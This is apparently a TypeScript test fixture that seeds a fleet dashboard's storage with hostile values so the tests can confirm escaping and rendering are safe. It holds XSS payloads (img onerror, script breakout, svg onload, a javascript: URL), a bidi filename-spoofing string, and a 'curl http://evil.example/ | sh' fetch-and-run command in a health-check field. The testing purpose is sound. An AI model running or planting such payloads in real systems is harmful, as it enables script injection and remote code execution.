// Texts that want to run, in every place where a host, a recorder or a person can put one.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { zstdCompressSync } from 'node:zlib';
import { packTar } from 'modern-tar';
import type { NewLedgerRow } from '../../../../src/storage/ledger.ts';
import type { Storage } from '../../../../src/storage/open-storage.ts';
import type { History } from '../../../support/dashboard-fleet.ts';
import { sha256 } from '../../../support/episodes.ts';
import { commitAt, GATE_KEYS, Past } from './past.ts';
import { placeTarball } from './telemetry-episode.ts';
import { byTime } from './three-hosts.ts';

/** Each sets a flag if it ever runs. */
export const IMAGE = '<img src=x onerror=window.pwned=1>';
const SCRIPT = '</script><script>window.pwned=1</script>';
const SVG = '"\'><svg onload=window.pwned=1>';
const BIDI = 'pay\u202egnp.exe\u2066\u200f';
export const HOSTILE = `${IMAGE}${SCRIPT}${SVG}${BIDI}javascript:window.pwned=1`;
/** As much of it as a line of a form may hold. */
export const HOSTILE_LINE = `${IMAGE}${SCRIPT}${SVG}${BIDI}`;

export const EVIL = 'lab-evil';
export const GONE = 'lab-gone';
export const EVIL_EPISODE = 'evil-episode';
export const EVIL_TELEMETRY = 'evil-telemetry';
export const RETRACTED = 'evil-retracted';

export async function hostileFleet(): Promise<History> {
  const past = new Past();
  const plain = await pack(EVIL_EPISODE, {
    [IMAGE]: 'x',
    [`${BIDI}\n${SVG}`]: 'x',
    'javascript:window.pwned=1': 'x',
    '</script><script>window.pwned=1</script>.csv': 'x',
  });
  const telemetry = await pack(EVIL_TELEMETRY, { 'telemetry.csv': hostileTelemetry(past) });
  const row = (episodeId: string, minutesAgo: number, bytes: Uint8Array, more: object = {}): NewLedgerRow => ({
    ...past.row({ hostId: EVIL, minutesAgo, episodeId, digest: sha256(bytes), sizeBytes: bytes.byteLength }),
    ...more,
  });
  return {
    keys: `${GATE_KEYS}[fleet]\nexpected_hosts = ["${EVIL}", "${GONE}"]\n`,
    // As an older receiver, or somebody's editor, may have written it.
    rows: [
      row(EVIL_EPISODE, 5, plain, { schema_version: HOSTILE, commit: HOSTILE, gate: HOSTILE, extra: HOSTILE }),
      row(EVIL_TELEMETRY, 4, telemetry),
      row(RETRACTED, 3, plain),
      past.row({ hostId: GONE, minutesAgo: 400 }),
    ].toSorted(byTime),
    plant: async (storage, store) => {
      placeTarball(store, EVIL, EVIL_EPISODE, plain);
      placeTarball(store, EVIL, EVIL_TELEMETRY, telemetry);
      await plant(storage, store, past);
    },
  };
}

async function plant(storage: Storage, store: string, past: Past): Promise<void> {
  const { hostState, attempts, control, ledger, monitorState } = storage;
  const by = HOSTILE;
  await hostState.putHeartbeat(
    past.heartbeat(EVIL, 2, {
      machine: HOSTILE,
      boot_id: HOSTILE,
      version: { commit: HOSTILE, dirty: true },
      held: { count: 7, code: HOSTILE },
      quarantine: { episodes: 7, recent: { episodes: 7, without_asking: 7, code: HOSTILE } },
      recording: { last_episode: { episode_id: HOSTILE, finished_at_wall: HOSTILE }, workloads: [HOSTILE, SVG] },
      update: { source: HOSTILE, result: HOSTILE, commit: HOSTILE, target: HOSTILE, at_wall: HOSTILE, detail: HOSTILE },
    }),
  );
  past.report(store, EVIL, 60);
  const check = { status: 'red', summary: HOSTILE, cure: 'curl http://evil.example/ | sh', duration_ms: 1 };
  const checks = [
    { id: 'disk', ...check },
    { id: HOSTILE, ...check },
    { id: 'clock', ...check, status: 'yellow' },
  ];
  const report = { schema_version: 1, role: 'lab-host', host_id: HOSTILE, status: 'red', commit: HOSTILE, checks };
  writeFileSync(join(store, 'host-health', `${EVIL}.json`), JSON.stringify({ ...report, generated_at_wall: HOSTILE }));
  await attempts.add(past.attempts(EVIL, HOSTILE, 3, 5, 6, 7));
  await control.retireHost({ hostId: GONE, retiredAt: past.at(30), by, reason: HOSTILE });
  await control.putGateOverride({ kind: 'allowed', commit: commitAt(30), until: past.at(-60), why: HOSTILE, by });
  await control.putGateOverride({ kind: 'blocked', commit: commitAt(3), why: HOSTILE, by });
  await ledger.retract({ host_id: EVIL, episode_id: RETRACTED, retracted_at_wall: past.at(1), reason: HOSTILE, by });
  await monitorState.applyRun({
    alerts: [
      past.alert(EVIL, 'refused', { detail: HOSTILE }),
      past.alert(EVIL, 'backlog', { detail: HOSTILE, state: 'resolved', resolvedAt: past.at(2) }),
      past.alert('*', 'fleet-silent', { detail: HOSTILE }),
    ],
    notifications: [],
    memory: '',
    ranAt: past.at(1),
    forgetResolvedBefore: '',
  });
}

async function pack(episodeId: string, files: Record<string, string>): Promise<Buffer> {
  const meta = {
    episode_id: HOSTILE,
    host_id: HOSTILE,
    workload: HOSTILE,
    [HOSTILE]: [HOSTILE, { [SVG]: null }],
    code_version: { commit: HOSTILE },
  };
  const all = Object.entries({ 'meta.json': JSON.stringify(meta), ...files });
  const entries = all.map(([name, body]) => ({
    header: { name: `${episodeId}/${name}`, size: Buffer.byteLength(body) },
    body,
  }));
  return zstdCompressSync(await packTar(entries));
}

/** A table that is one, with columns whose names are none. */
function hostileTelemetry(past: Past): string {
  const lines = Array.from(
    { length: 20 },
    (_, second) => `${past.at(10 - second / 60)},${second}.0,${second % 5},${SVG}`,
  );
  return `time_wall,time_monotonic_s,${IMAGE}_bytes,${SCRIPT.replaceAll(',', '')}_percent\n${lines.join('\n')}\n`;
}
